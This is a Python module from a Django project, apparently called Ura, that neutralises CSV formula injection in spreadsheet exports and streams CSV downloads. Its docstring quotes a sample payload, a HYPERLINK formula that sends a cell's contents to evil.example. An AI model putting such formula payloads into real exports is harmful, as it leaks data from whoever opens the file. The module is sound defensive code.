"""Spreadsheet exports: every CSV (or XLSX) cell Ura writes goes through here (decision 63).

A cell that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google Sheets,
and a tab or a carriage return at the start lets one hide behind whitespace: a break-the-glass
reason typed as `=HYPERLINK("https://evil.example/?"&A1, "open")` would run in the data protection
officer's spreadsheet. Such a cell is written with a leading apostrophe, which the spreadsheet shows
as text and never evaluates. The meta-test (`tests/test_exports.py`) refuses a module of ours that
imports a CSV or spreadsheet writer other than this one, so a new export cannot go round it.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import StreamingHttpResponse

__all__ = ["FORMULA_STARTS", "csv_lines", "csv_response", "neutralise"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """`value` as the text of one cell, never a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    """A file that hands back what is written to it: the CSV writer then yields lines to stream."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def csv_response(filename: str, header: Iterable[str], rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    """A streamed CSV download of `rows` under `header`, every cell neutralised."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
